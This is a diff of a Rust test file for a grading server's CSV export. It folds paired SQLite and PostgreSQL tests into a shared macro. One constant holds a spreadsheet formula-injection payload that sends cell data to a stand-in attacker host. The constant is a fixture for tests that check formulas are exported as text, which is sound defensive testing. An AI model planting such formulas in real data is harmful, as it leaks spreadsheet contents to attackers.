@@ -9,7 +9,6 @@ use server::{Config, Store};
 
 use crate::common::{failing_design, passing_design, spawn_app_on, As, TempDir, TestApp};
 use crate::grading::parse_csv;
-use crate::postgres;
 
 /// The display name a student chose, as a spreadsheet would run it.
 const FORMULA_NAME: &str = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Open\")";
@@ -23,15 +22,6 @@ async fn on_sqlite(label: &str) -> TestApp {
         .await
         .expect("a fresh SQLite database");
     spawn_app_on(store, Config::default(), dir)
-}
-
-async fn on_postgres(label: &str) -> Option<(TestApp, postgres::PgDatabase)> {
-    let db = postgres::database(label).await?;
-    let store = Store::connect(&db.url).await.expect("PostgreSQL connects");
-    Some((
-        spawn_app_on(store, Config::default(), TempDir::new(label)),
-        db,
-    ))
 }
 
 /// A class with one member named [`FORMULA_NAME`], who submitted once for it: the class id
@@ -134,18 +124,9 @@ async fn every_csv_export_writes_a_formula_as_text(app: &TestApp) {
     );
 }
 
-#[tokio::test]
-async fn every_csv_export_writes_a_formula_as_text_on_sqlite() {
-    every_csv_export_writes_a_formula_as_text(&on_sqlite("csv-formula").await).await;
-}
-
-#[tokio::test]
-async fn every_csv_export_writes_a_formula_as_text_on_postgres() {
-    let Some((app, _db)) = on_postgres("every_csv_export_writes_a_formula_as_text").await else {
-        return;
-    };
-    every_csv_export_writes_a_formula_as_text(&app).await;
-}
+crate::on_both_databases!(every_csv_export_writes_a_formula_as_text, |db| {
+    every_csv_export_writes_a_formula_as_text(&db.app().await).await;
+});
 
 #[tokio::test]
 async fn every_csv_export_starts_with_a_byte_order_mark_when_asked() {
@@ -256,17 +237,6 @@ async fn the_attempts_list_pages_with_a_link_to_the_next_page(app: &TestApp) {
     assert_eq!(unknown.body["error"]["path"], "?before");
 }
 
-#[tokio::test]
-async fn the_attempts_list_pages_with_a_link_to_the_next_page_on_sqlite() {
-    the_attempts_list_pages_with_a_link_to_the_next_page(&on_sqlite("csv-pages").await).await;
-}
-
-#[tokio::test]
-async fn the_attempts_list_pages_with_a_link_to_the_next_page_on_postgres() {
-    let Some((app, _db)) =
-        on_postgres("the_attempts_list_pages_with_a_link_to_the_next_page").await
-    else {
-        return;
-    };
-    the_attempts_list_pages_with_a_link_to_the_next_page(&app).await;
-}
+crate::on_both_databases!(the_attempts_list_pages_with_a_link_to_the_next_page, |db| {
+    the_attempts_list_pages_with_a_link_to_the_next_page(&db.app().await).await;
+});
